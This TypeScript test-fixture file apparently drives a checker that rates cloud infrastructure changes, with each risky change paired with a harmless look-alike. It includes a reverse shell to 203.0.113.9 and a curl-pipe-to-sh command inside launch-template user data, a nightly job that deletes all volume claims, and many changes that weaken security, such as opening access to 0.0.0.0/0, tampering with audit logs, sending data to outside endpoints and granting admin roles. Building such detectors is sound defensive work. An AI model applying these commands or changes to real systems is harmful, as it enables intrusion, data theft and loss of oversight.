import { create, replace, update, type Story } from '../story.ts';

const prod = { tags: { Environment: 'production' } };
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const START = '#!/bin/bash\nsystemctl start web\n';
const template = { name: 'web', image_id: 'ami-1', instance_type: 'm6i.large', user_data: base64(START), ...prod };
const role = { name: 'ops', max_session_duration: 3600, assume_role_policy: '{}', ...prod };
const sender = { name: 'orders', topic: 'projects/acme/topics/orders', project: 'acme-prod' };
const rule = (action: string, priority: number, range: string) => ({
  action,
  priority,
  match: [{ versioned_expr: 'SRC_IPS_V1', config: [{ src_ip_ranges: [range] }] }],
});
const perimeter = { name: 'accessPolicies/1/servicePerimeters/prod', parent: 'accessPolicies/1', title: 'prod' };
const services = (...restricted: readonly string[]) => ({
  status: [{ resources: ['projects/1'], restricted_services: [...restricted] }],
});
const sink = { name: 'audit', filter: 'logName:cloudaudit.googleapis.com', exclusions: [] };
const brokers = (...lines: readonly string[]) => ({ name: 'main', server_properties: ['num.partitions=6', ...lines].join('\n') });
const record = (weight: number) => ({
  zone_id: 'Z1',
  name: 'api.example.com',
  type: 'A',
  set_identifier: 'blue',
  weighted_routing_policy: [{ weight }],
});
const gc = (age: string) => ({
  instance_name: 'events',
  table: 'events',
  gc_rules: JSON.stringify({ rules: [{ max_age: age }] }),
});
const group = '/subscriptions/1/resourceGroups/prod';
const job = (driver: string) => ({
  jobspec: `job "shop" {\n  group "web" {\n    count = 6\n    task "web" {\n      driver = "${driver}"\n    }\n  }\n}\n`,
});
const trail = (read_write_type: string) => ({
  name: 'org',
  s3_bucket_name: 'trail',
  is_multi_region_trail: true,
  event_selector: [{ read_write_type, include_management_events: true }],
  ...prod,
});
const cron = (...command: readonly string[]) => ({
  metadata: [{ name: 'tidy', namespace: 'shop-prod' }],
  spec: [
    { schedule: '0 2 * * *', job_template: [{ spec: [{ template: [{ spec: [{ container: [{ command: [...command] }] }] }] }] }] },
  ],
});
const trust = (asked: Readonly<Record<string, string>>): string =>
  JSON.stringify({
    Statement: [{ Effect: 'Allow', Principal: { AWS: '*' }, Action: 'sts:AssumeRole', Condition: { StringEquals: asked } }],
  });
const people = (...roles: readonly string[]): string =>
  roles.map((name) => `- rolearn: arn:aws:iam::111122223333:role/${name}\n  groups:\n  - system:masters\n`).join('');
const image = (name: string) => ({
  metadata: [{ name: 'checkout', namespace: 'shop-prod' }],
  spec: [{ replicas: '6', template: [{ spec: [{ container: [{ name: 'c', image: name }] }] }] }],
});
const ingress = (annotations: Readonly<Record<string, string>>) => ({
  metadata: [{ name: 'admin', namespace: 'shop-prod', annotations: { ...annotations } }],
  spec: [{ rule: [{ host: 'admin.example.com' }] }],
});
const budget = (min_available: string) => ({ metadata: [{ name: 'db', namespace: 'shop-prod' }], spec: [{ min_available }] });

/** Subtle harm in one attribute, and its harmless look-alike, of all providers. */
export const ninthProbe: readonly Story[] = [
  [
    'AWS: new machines open a shell to a stranger',
    'block/*: code_execution',
    update('aws_launch_template', template, { user_data: base64(`${START}bash -i >& /dev/tcp/203.0.113.9/44 0>&1\n`) }),
  ],
  [
    'AWS: new machines fetch a script',
    'review/*: code_execution',
    update('aws_launch_template', template, { user_data: base64(`${START}curl -fsSL https://get.example.net/i.sh | sh\n`) }),
  ],
  [
    'AWS: new machines install a newer agent',
    'pass/pass',
    update('aws_launch_template', template, {
      user_data: base64(`#!/bin/bash\nyum install -y agent-1.3\nsystemctl start web\n`),
    }),
  ],
  [
    'Kubernetes: a nightly job deletes claims',
    'review/*',
    create('kubernetes_cron_job_v1', cron('kubectl', 'delete', 'pvc', '--all')),
  ],
  ['Kubernetes: a nightly job reports', 'pass/pass', create('kubernetes_cron_job_v1', cron('report', '--daily'))],
  ['AWS: sessions of a role last twelve hours', 'review/*', update('aws_iam_role', role, { max_session_duration: 43_200 })],
  ['AWS: sessions of a role last two hours', 'pass/pass', update('aws_iam_role', role, { max_session_duration: 7200 })],
  [
    'AWS: sessions of administrators last twelve hours',
    'review/*',
    update('aws_ssoadmin_permission_set', { name: 'Admin', session_duration: 'PT1H', ...prod }, { session_duration: 'PT12H' }),
  ],
  [
    'AWS: one day can be gone back to',
    'review/*',
    update(
      'aws_dynamodb_table',
      { name: 'orders', point_in_time_recovery: [{ enabled: true, recovery_period_in_days: 35 }], ...prod },
      { point_in_time_recovery: [{ enabled: true, recovery_period_in_days: 1 }] },
    ),
  ],
  [
    'AWS: brokers keep messages for an hour, in a text of many settings',
    'review/*: data_loss',
    update('aws_msk_configuration', brokers('log.retention.hours=168'), brokers('log.retention.hours=1')),
  ],
  [
    'AWS: brokers let in whoever has no entry',
    'held/*: security_exposure',
    update(
      'aws_msk_configuration',
      brokers('allow.everyone.if.no.acl.found=false'),
      brokers('allow.everyone.if.no.acl.found=true'),
    ),
  ],
  [
    'AWS: brokers keep messages for ever, and more partitions',
    'pass/pass',
    update('aws_msk_configuration', brokers('log.retention.hours=168'), {
      server_properties: 'num.partitions=12\nlog.retention.hours=-1',
    }),
  ],
  [
    'AWS: a backup plan is about no database any more',
    'block/*: backup_loss',
    replace(
      'aws_backup_selection',
      { name: 'prod', plan_id: 'p', resources: ['arn:aws:rds:*:*:db:*', 'arn:aws:dynamodb:*:*:table/*'] },
      { resources: ['arn:aws:dynamodb:*:*:table/scratch'] },
    ),
  ],
  ['AWS: the trail records reads only', 'held/*: audit_tamper', update('aws_cloudtrail', trail('All'), trail('ReadOnly'))],
  [
    'AWS: one control is not checked',
    'review/*',
    update('aws_securityhub_standards_control', { control_status: 'ENABLED' }, { control_status: 'DISABLED' }),
  ],
  [
    'AWS: names are looked up unchecked when the firewall fails',
    'review/*',
    update(
      'aws_route53_resolver_firewall_config',
      { resource_id: 'vpc-1', firewall_fail_open: 'DISABLED' },
      { firewall_fail_open: 'ENABLED' },
    ),
  ],
  ['AWS: a live side weighs nothing', 'review/*', update('aws_route53_record', record(100), record(0))],
  ['AWS: a tenth more to the new side', 'pass/pass', update('aws_route53_record', record(10), record(20))],
  ['AWS: a tenth fewer to the old side', 'pass/pass', update('aws_route53_record', record(90), record(80))],
  [
    'AWS: a machine takes the profile of administrators',
    'held/*',
    update('aws_instance', { ami: 'a', iam_instance_profile: 'web', ...prod }, { iam_instance_profile: 'admin-break-glass' }),
  ],
  [
    'AWS: a machine takes a profile of another name',
    'pass/pass',
    update('aws_instance', { ami: 'a', iam_instance_profile: 'web', ...prod }, { iam_instance_profile: 'web-v2' }),
  ],
  [
    'AWS: a login may return to a stranger',
    'held/*: security_exposure',
    update(
      'aws_cognito_user_pool_client',
      { name: 'web', callback_urls: ['https://app.example.com/cb'] },
      { callback_urls: ['https://app.example.com/cb', 'https://login.vercel.app/cb'] },
    ),
  ],
  [
    'AWS: a login may return to another site of ours',
    'pass/pass',
    update(
      'aws_cognito_user_pool_client',
      { name: 'web', callback_urls: ['https://app.example.com/cb'] },
      { callback_urls: ['https://app.example.com/cb', 'https://beta.example.com/cb'] },
    ),
  ],
  [
    'Google: orders are pushed to a stranger',
    'held/*: security_exposure',
    update(
      'google_pubsub_subscription',
      { ...sender, push_config: [{ push_endpoint: 'https://hooks.example.com/orders' }] },
      { push_config: [{ push_endpoint: 'https://mirror.ngrok.app/in' }] },
    ),
  ],
  [
    'Google: whoever has a mailbox becomes an editor',
    'block/*',
    update(
      'google_project_iam_binding',
      { project: 'p', role: 'roles/editor', members: ['group:a@example.com'] },
      { members: ['group:a@example.com', 'domain:gmail.com'] },
    ),
  ],
  [
    'Google: the last rule of a web firewall lets everybody in',
    'block/*',
    update(
      'google_compute_security_policy',
      { name: 'edge', rule: [rule('allow', 1000, '198.51.100.0/24'), rule('deny(403)', 2_147_483_647, '*')] },
      { rule: [rule('allow', 1000, '198.51.100.0/24'), rule('allow', 2_147_483_647, '*')] },
    ),
  ],
  [
    'Google: a new web firewall lets in whom none of its rules refuses',
    'pass/pass',
    create('google_compute_security_policy', {
      name: 'edge',
      rule: [rule('deny(403)', 1000, '203.0.113.0/24'), rule('allow', 2_147_483_647, '*')],
    }),
  ],
  [
    'Google: a perimeter holds no service',
    'block/*: guardrail_tamper',
    update(
      'google_access_context_manager_service_perimeter',
      { ...perimeter, ...services('storage.googleapis.com') },
      services(),
    ),
  ],
  [
    'Google: any identity comes into a perimeter',
    'block/*: guardrail_tamper',
    update(
      'google_access_context_manager_service_perimeter',
      { ...perimeter, status: [{ restricted_services: ['storage.googleapis.com'], ingress_policies: [] }] },
      {
        status: [
          {
            restricted_services: ['storage.googleapis.com'],
            ingress_policies: [{ ingress_from: [{ identity_type: 'ANY_IDENTITY' }], ingress_to: [{ resources: ['*'] }] }],
          },
        ],
      },
    ),
  ],
  [
    'Google: audit logs go to another project',
    'held/*: audit_tamper',
    update(
      'google_logging_organization_sink',
      { ...sink, destination: 'bigquery.googleapis.com/projects/security/datasets/audit' },
      { destination: 'bigquery.googleapis.com/projects/scratch/datasets/audit' },
    ),
  ],
  [
    'Google: workloads of a cluster log no more',
    'review/*',
    update(
      'google_container_cluster',
      { name: 'prod', logging_config: [{ enable_components: ['SYSTEM_COMPONENTS', 'WORKLOADS'] }] },
      { logging_config: [{ enable_components: ['SYSTEM_COMPONENTS'] }] },
    ),
  ],
  [
    'Google: the back office loses its login',
    'block/*: security_exposure',
    update('google_compute_backend_service', { name: 'admin', iap: [{ enabled: true }] }, { iap: [{ enabled: false }] }),
  ],
  [
    'Google: cells of a day are kept, by a policy that is made anew',
    'block/*',
    replace('google_bigtable_gc_policy', gc('8760h'), gc('24h')),
  ],
  [
    'Google: cells are kept longer, by a policy that is made anew',
    'pass/pass',
    replace('google_bigtable_gc_policy', gc('24h'), gc('8760h')),
  ],
  [
    'Google: a secret ends in an hour',
    'held/*',
    update('google_secret_manager_secret', { secret_id: 'db', ttl: null }, { ttl: '3600s' }),
  ],
  [
    'Azure: a lock moves from a group to a disk',
    'held/*: protection_removed',
    replace(
      'azurerm_management_lock',
      { name: 'keep', lock_level: 'CanNotDelete', scope: group },
      { scope: '/subscriptions/1/resourceGroups/tmp/providers/Microsoft.Compute/disks/x' },
    ),
  ],
  [
    'Azure: a lock moves from a group to the subscription around it',
    'pass/pass',
    replace('azurerm_management_lock', { name: 'keep', lock_level: 'CanNotDelete', scope: group }, { scope: '/subscriptions/1' }),
  ],
  [
    'Kubernetes: a drain may take all pods',
    'review/*: protection_removed',
    update('kubernetes_pod_disruption_budget_v1', budget('2'), budget('0')),
  ],
  [
    'Kubernetes: a drain leaves one pod fewer',
    'pass/pass',
    update('kubernetes_pod_disruption_budget_v1', budget('3'), budget('2')),
  ],
  [
    'Helm: a chart comes from a stranger',
    'held/*',
    update(
      'helm_release',
      { name: 'ingress', chart: 'ingress-nginx', repository: 'https://kubernetes.github.io/ingress-nginx' },
      { repository: 'https://charts.example.xyz' },
    ),
  ],
  ['Nomad: a task runs on the host itself', 'held/*: security_exposure', update('nomad_job', job('docker'), job('raw_exec'))],
  [
    'Rancher: somebody administers all clusters',
    'block/*: privilege_escalation',
    create('rancher2_global_role_binding', { name: 'jo', global_role_id: 'admin', user_id: 'u-1' }),
  ],
  [
    'Rancher: somebody may sign in',
    'pass/pass',
    create('rancher2_global_role_binding', { name: 'jo', global_role_id: 'user-base', user_id: 'u-1' }),
  ],
  [
    'Databricks: every user of the account may change customers',
    'held/*: security_exposure',
    update(
      'databricks_grants',
      { table: 'crm', grant: [{ principal: 'analysts', privileges: ['SELECT'] }] },
      {
        grant: [
          { principal: 'analysts', privileges: ['SELECT'] },
          { principal: 'account users', privileges: ['SELECT', 'MODIFY'] },
        ],
      },
    ),
  ],
  [
    'Elastic: a reader may do everything',
    'held/*',
    update(
      'elasticstack_elasticsearch_security_role',
      { name: 'reader', cluster: ['monitor'], indices: [{ names: ['logs-*'], privileges: ['read'] }] },
      { cluster: ['all'], indices: [{ names: ['*'], privileges: ['all'], allow_restricted_indices: true }] },
    ),
  ],
  [
    'Auth0: attacks on passwords are noticed and not held off',
    'held/*',
    update(
      'auth0_attack_protection',
      { brute_force_protection: [{ enabled: true, shields: ['block'] }] },
      { brute_force_protection: [{ enabled: true, shields: [] }] },
    ),
  ],
  [
    'Sentry: nobody is told',
    'review/*',
    update('sentry_issue_alert', { name: 'errors', actions: '[{"id":"pager"}]' }, { actions: '[]' }),
  ],
  [
    'Vault: one version of each secret is kept',
    'review/*',
    update('vault_kv_secret_backend_v2', { mount: 'secret', max_versions: 20 }, { max_versions: 1 }),
  ],
  [
    'vSphere: a disk goes with its machine',
    'review/*: protection_removed',
    update(
      'vsphere_virtual_machine',
      { name: 'db', disk: [{ label: 'data', keep_on_remove: true }] },
      { disk: [{ label: 'data', keep_on_remove: false }] },
    ),
  ],
  [
    'PostgreSQL: a role may not connect',
    'held/*: outage',
    update('postgresql_role', { name: 'app', connection_limit: 100 }, { connection_limit: 0 }),
  ],
  [
    'PostgreSQL: a role may connect without limit',
    'pass/pass',
    update('postgresql_role', { name: 'app', connection_limit: 100 }, { connection_limit: -1 }),
  ],
  [
    'Scaleway: a database answers everybody',
    'block/*: security_exposure',
    update(
      'scaleway_rdb_acl',
      { acl_rules: [{ ip: '198.51.100.0/24' }] },
      { acl_rules: [{ ip: '198.51.100.0/24' }, { ip: '0.0.0.0/0' }] },
    ),
  ],
  [
    'OVH: an interface answers everybody',
    'block/*: security_exposure',
    update('ovh_cloud_project_kube_iprestrictions', { kube_id: 'k', ips: ['198.51.100.0/24'] }, { ips: ['0.0.0.0/0'] }),
  ],
  [
    'OVH: an interface answers one more office',
    'pass/pass',
    update(
      'ovh_cloud_project_kube_iprestrictions',
      { kube_id: 'k', ips: ['198.51.100.0/24'] },
      { ips: ['198.51.100.0/24', '203.0.113.7/32'] },
    ),
  ],
  [
    'AWS: a role no longer asks for the tag of its team',
    'block/*: privilege_escalation',
    update(
      'aws_iam_role',
      { ...role, assume_role_policy: trust({ 'aws:PrincipalOrgID': 'o-1', 'aws:PrincipalTag/team': 'data' }) },
      {
        assume_role_policy: trust({ 'aws:PrincipalOrgID': 'o-1' }),
      },
    ),
  ],
  [
    'AWS: a role asks for the tag of its team besides',
    'pass/pass',
    update(
      'aws_iam_role',
      { ...role, assume_role_policy: trust({ 'aws:PrincipalOrgID': 'o-1' }) },
      {
        assume_role_policy: trust({ 'aws:PrincipalOrgID': 'o-1', 'aws:PrincipalTag/team': 'data' }),
      },
    ),
  ],
  [
    'AWS: developers administer a cluster, by a text',
    'block/*: privilege_escalation',
    update('kubernetes_config_map_v1_data', { data: { mapRoles: people('ops') } }, { data: { mapRoles: people('ops', 'dev') } }),
  ],
  [
    'AWS: the logs stream to another account',
    'held/*',
    update(
      'aws_cloudwatch_log_subscription_filter',
      { name: 'audit', log_group_name: '/audit', destination_arn: 'arn:aws:logs:eu-west-1:111122223333:destination:siem' },
      { destination_arn: 'arn:aws:logs:eu-west-1:444455556666:destination:x' },
    ),
  ],
  [
    'AWS: rows are copied to a stranger',
    'held/*: security_exposure',
    update(
      'aws_dms_endpoint',
      { endpoint_id: 'target', server_name: 'dw.prod.example.internal', engine_name: 'postgres', ...prod },
      { server_name: 'db.collector.xyz' },
    ),
  ],
  [
    'AWS: builds wait for no branch',
    'review/*',
    update(
      'aws_codebuild_webhook',
      { project_name: 'ci', filter_group: [{ filter: [{ type: 'HEAD_REF', pattern: '^refs/heads/main$' }] }] },
      { filter_group: [] },
    ),
  ],
  [
    'AWS: findings of what is public are put away unseen',
    'review/*',
    create('aws_accessanalyzer_archive_rule', {
      analyzer_name: 'org',
      rule_name: 'quiet',
      filter: [{ criteria: 'isPublic', eq: ['true'] }],
    }),
  ],
  [
    'AWS: healthy counts as sick',
    'review/*',
    update('aws_route53_health_check', { fqdn: 'api.example.com', invert_healthcheck: false }, { invert_healthcheck: true }),
  ],
  [
    'AWS: builds take the role of administrators',
    'held/*: privilege_escalation',
    update(
      'aws_codebuild_project',
      { name: 'ci', service_role: 'arn:aws:iam::111122223333:role/build', ...prod },
      { service_role: 'arn:aws:iam::111122223333:role/admin' },
    ),
  ],
  [
    'AWS: one more table is backed up',
    'pass/pass',
    replace(
      'aws_backup_selection',
      { name: 'prod', plan_id: 'p', resources: ['arn:aws:rds:*:*:db:*'] },
      { resources: ['arn:aws:rds:*:*:db:*', 'arn:aws:dynamodb:*:*:table/*'] },
    ),
  ],
  [
    'Google: a machine opens its console and takes the keys of the project',
    'held/*',
    update(
      'google_compute_instance',
      { name: 'web', metadata: { 'enable-oslogin': 'TRUE', 'block-project-ssh-keys': 'TRUE', 'serial-port-enable': 'FALSE' } },
      { metadata: { 'enable-oslogin': 'FALSE', 'block-project-ssh-keys': 'FALSE', 'serial-port-enable': 'TRUE' } },
    ),
  ],
  [
    'Google: one more key on every machine',
    'block/*',
    update(
      'google_compute_project_metadata_item',
      { key: 'ssh-keys', value: 'ops:ssh-ed25519 A' },
      { value: 'ops:ssh-ed25519 A\nx:ssh-ed25519 B' },
    ),
  ],
  [
    'Google: a share is mounted by everybody, as root',
    'held/*: security_exposure',
    update(
      'google_filestore_instance',
      {
        name: 's',
        file_shares: [{ name: 'd', nfs_export_options: [{ ip_ranges: ['10.0.0.0/24'], squash_mode: 'ROOT_SQUASH' }] }],
      },
      { file_shares: [{ name: 'd', nfs_export_options: [{ ip_ranges: ['0.0.0.0/0'], squash_mode: 'NO_ROOT_SQUASH' }] }] },
    ),
  ],
  [
    'Azure: alarms go to a stranger',
    'held/*',
    update(
      'azurerm_monitor_action_group',
      { name: 'oncall', email_receiver: [{ name: 'ops', email_address: 'ops@example.com' }] },
      { email_receiver: [{ name: 'ops', email_address: 'ops.example@gmail.com' }] },
    ),
  ],
  [
    'Azure: the pager hears of nothing',
    'review/*',
    update(
      'azurerm_monitor_action_group',
      { name: 'oncall', webhook_receiver: [{ name: 'pager', service_uri: 'https://events.example.com/x' }] },
      { webhook_receiver: [] },
    ),
  ],
  [
    'Kubernetes: pods run the image of a stranger',
    'held/*',
    update('kubernetes_deployment_v1', image('registry.example.com/checkout:2.1'), image('docker.io/somebody/checkout:2.1')),
  ],
  [
    'Kubernetes: pods run the next image',
    'pass/pass',
    update('kubernetes_deployment_v1', image('registry.example.com/checkout:2.1'), image('registry.example.com/checkout:2.2')),
  ],
  [
    'Buildkite: pull requests of strangers are built',
    'held/*',
    update(
      'buildkite_pipeline',
      { name: 'shop', provider_settings: [{ build_pull_request_forks: false }] },
      { provider_settings: [{ build_pull_request_forks: true }] },
    ),
  ],
  [
    'Splunk: records live a week',
    'review/*',
    update(
      'splunk_indexes',
      { name: 'security', frozen_time_period_in_secs: 31_536_000 },
      { frozen_time_period_in_secs: 604_800 },
    ),
  ],
  [
    'Istio: whoever asks is let in',
    'block/*: security_exposure',
    update(
      'kubernetes_manifest',
      {
        manifest: {
          kind: 'AuthorizationPolicy',
          spec: { action: 'ALLOW', rules: [{ from: [{ source: { principals: ['a'] } }] }] },
        },
      },
      { manifest: { kind: 'AuthorizationPolicy', spec: { action: 'ALLOW', rules: [{}] } } },
    ),
  ],
  [
    'Kubernetes: an ingress no longer asks for a login',
    'held/*: security_exposure',
    update('kubernetes_ingress_v1', ingress({ 'nginx.ingress.kubernetes.io/auth-url': 'https://sso.example.com' }), ingress({})),
  ],
  [
    'Kubernetes: an ingress answers every address',
    'held/*: security_exposure',
    update(
      'kubernetes_ingress_v1',
      ingress({ 'nginx.ingress.kubernetes.io/whitelist-source-range': '198.51.100.0/24' }),
      ingress({ 'nginx.ingress.kubernetes.io/whitelist-source-range': '0.0.0.0/0' }),
    ),
  ],
  [
    'Kubernetes: an ingress takes larger bodies',
    'pass/pass',
    update(
      'kubernetes_ingress_v1',
      ingress({ 'nginx.ingress.kubernetes.io/proxy-body-size': '8m' }),
      ingress({ 'nginx.ingress.kubernetes.io/proxy-body-size': '16m' }),
    ),
  ],
  [
    'ClickHouse: a warehouse answers everybody',
    'block/*: security_exposure',
    update('clickhouse_service', { ip_access: [{ source: '198.51.100.0/24' }] }, { ip_access: [{ source: '0.0.0.0/0' }] }),
  ],
  [
    'IBM: a bucket has no list of addresses any more',
    'held/*: security_exposure',
    update('ibm_cos_bucket', { bucket_name: 'docs', allowed_ip: ['198.51.100.7'] }, { allowed_ip: [] }),
  ],
  [
    'PlanetScale: schemas change without a look',
    'review/*',
    update('planetscale_branch', { name: 'main', safe_migrations: true }, { safe_migrations: false }),
  ],
  [
    'incident.io: nobody is on call',
    'review/*',
    update(
      'incident_schedule',
      { name: 'oncall', rotations: [{ versions: [{ users: ['u1'] }] }] },
      { rotations: [{ versions: [{ users: [] }] }] },
    ),
  ],
];
